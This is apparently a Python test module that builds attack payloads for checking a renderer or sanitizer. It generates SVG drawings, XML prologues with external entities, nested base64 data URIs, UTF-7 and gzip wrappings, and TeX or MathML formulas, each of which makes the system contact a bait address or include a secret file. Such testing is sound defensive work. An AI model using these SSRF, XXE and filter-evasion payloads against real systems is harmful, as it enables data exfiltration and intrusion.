"""Requests from drawings: SVG in the page, SVG as a file, SVG in SVG. Also formulas."""

from __future__ import annotations

import gzip
from base64 import b64encode
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

from tests.attacks.attack import Attack, Bait, File, attached

_NAMESPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:ev="http://www.w3.org/2001/xml-events"'
)
_PARTS = {
    "image": '<image href="{}1" width="9" height="9"/><image xlink:href="{}2" width="9"/>',
    "image with a base": '<g xml:base="{}"><image href="a.png" width="9" height="9"/></g>',
    "use": '<use href="{}1#a"/><use xlink:href="{}2#b"/>',
    "effects": (
        '<filter id="f"><feImage href="{}1"/><feImage xlink:href="{}2"/></filter>'
        '<rect width="9" height="9" filter="url(#f)"/><rect filter="url({}3#x)" width="9"/>'
        '<rect mask="url({}4#m)" clip-path="url({}5#c)" width="9" height="9"/>'
        '<path marker-end="url({}6#m)" cursor="url({}7)" d="M0 0h9"/>'
    ),
    "foreign object": (
        '<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<img src="{}1"/><iframe src="{}2"/><object data="{}3"/><link rel="stylesheet" href="{}4"/>'
        '<div style="background: url({}5)">foreign</div></body></foreignObject>'
    ),
    "style": (
        "<style>@import '{}1'; @import url({}2); rect, text {{ fill: url({}3#a) }} "
        "@font-face {{ font-family: x; src: url({}4) }}</style><rect width='9' height='9'/>"
        "<text style=\"fill: url({}5#g); background: url('{}6'); font-family: x\">t</text>"
    ),
    "paint": (
        '<rect fill="url({}1#a)" stroke="url({}2#b)" width="9" height="9"/>'
        '<linearGradient id="g" href="{}3#g"/><pattern id="p" xlink:href="{}4#p"/>'
        '<rect fill="url(#g)" stroke="url(#p)" width="9" height="9"/>'
    ),
    "script": '<script href="{}1"/><script>fetch("{}2")</script><rect onload="fetch(\'{}3\')"/>',
    "animation": (
        '<image width="9" height="9"><set attributeName="href" to="{}1"/>'
        '<animate attributeName="xlink:href" values="{}2" begin="0s"/></image>'
    ),
    "links": '<a href="{}1"><text y="9">link</text></a><a xlink:href="{}2"><rect width="9"/></a>',
    "old parts": (
        '<font-face><font-face-src><font-face-uri xlink:href="{}1"/></font-face-src></font-face>'
        '<tref xlink:href="{}2#t"/><text><textPath href="{}3#p">x</textPath></text>'
        '<color-profile xlink:href="{}4" name="n"/><animateMotion><mpath href="{}5#p"/>'
        '</animateMotion><handler xlink:href="{}6" ev:event="load"/><cursor xlink:href="{}7"/>'
    ),
    "inclusion": '<xi:include href="{}1"/><xi:include href="{}2" parse="text"/>',
}
_PROLOGUES = {
    "style sheet in front": '<?xml-stylesheet href="{}" type="text/css"?>',
    "document type in front": '<!DOCTYPE svg SYSTEM "{}">',
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]>',
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "{}"> %x;]>',
    "entity in a default": (
        '<!DOCTYPE svg [<!ATTLIST image href CDATA "{}1"><!NOTATION n SYSTEM "{}2">]>'
    ),
}


def svg(inner: str, prologue: str = "") -> str:
    return (
        f'{prologue}<svg {_NAMESPACES} width="200" height="60" viewBox="0 0 200 60">{inner}</svg>'
    )


def attacks(bait: Bait) -> Iterator[Attack]:
    for name, part in _PARTS.items():
        address = bait.web(f"svg-{name.replace(' ', '-')}")
        drawing = svg(_filled(part, address) + '<rect x="50" width="40" height="9"/>')
        yield Attack(f"Drawing in the page {name}", drawing)
        yield _file(f"Drawing {name}", drawing.encode())
    for name, prologue in _PROLOGUES.items():
        address = bait.web(f"svg-{name.replace(' ', '-')}")
        drawing = svg("<text y='20'>&x;</text><image width='9'/>", _filled(prologue, address))
        yield _file(f"Drawing {name}", drawing.encode())
    yield from _nested(bait)
    yield from _formulas(bait)


def _nested(bait: Bait) -> Iterator[Attack]:
    """Drawings in drawings and in other wraps: a check of the outer one alone would miss them."""
    inner = svg(f'<image href="{bait.web("svg-nested")}" width="9" height="9"/>')
    once = _image(f"data:image/svg+xml;base64,{_base64(inner)}")
    twice = _image(f"data:image/svg+xml;base64,{_base64(svg(once))}")
    unpacked = _image(f"data:image/svg+xml,{quote(inner)}")
    page = f"data:text/html;base64,{_base64(inner)}"
    yield _file("Drawing in a drawing", svg(once).encode())
    yield _file("Drawing in a drawing in a drawing", svg(twice).encode())
    yield _file("Drawing in an address", svg(unpacked).encode())
    yield _file("Drawing in sixteen bits", inner.encode("utf-16"))
    yield _file("Drawing in another encoding", _declared(inner, "utf-7"))
    yield _file("Drawing packed", gzip.compress(inner.encode(), mtime=0))
    yield attached("Drawing called a photo", File("photo.png", "image/png", inner.encode()))
    yield Attack("Drawings as addresses in the page", _as_addresses(inner, page))


def _as_addresses(inner: str, page: str) -> str:
    packed = f"data:image/svg+xml;base64,{_base64(inner)}"
    plain = f"data:image/svg+xml,{escape(inner)}"
    return (
        f'<img src="{packed}"><img src="{plain}"><object data="{packed}"></object>'
        f'<img class="confluence-embedded-image" data-image-src="{packed}" src="{packed}">'
        f'<embed src="{page}"><iframe src="{page}"></iframe>'
        f'<p style="background: url({packed})">words</p>'
    )


def _formulas(bait: Bait) -> Iterator[Attack]:
    address = bait.web("formula")
    yield Attack(
        "Formulas",
        f'<script type="math/tex">\\href{{{address}1}}{{x}} \\url{{{address}2}}</script>'
        f'<script type="math/tex">\\includegraphics{{{address}3}} \\input{{{bait.secret}}}</script>'
        f'<script type="math/mml"><math><mglyph src="{address}4"/></math></script>'
        f'<math><mi href="{address}5">x</mi><maction actiontype="statusline#{address}6">'
        f'<mi>y</mi></maction><mtext><img src="{address}7"/></mtext></math>',
    )


def _file(name: str, content: bytes) -> Attack:
    return attached(name, File("drawing.svg", "image/svg+xml", content))


def _filled(text: str, address: str) -> str:
    return text.replace("{{", "{ ").replace("}}", " }").replace("{}", address)


def _image(address: str) -> str:
    return f'<image href="{address}" width="90" height="30"/>'


def _base64(text: str) -> str:
    return b64encode(text.encode()).decode()


def _declared(drawing: str, encoding: str) -> bytes:
    """The same in an encoding in which a filter for ASCII sees no markup."""
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + drawing.encode(encoding)
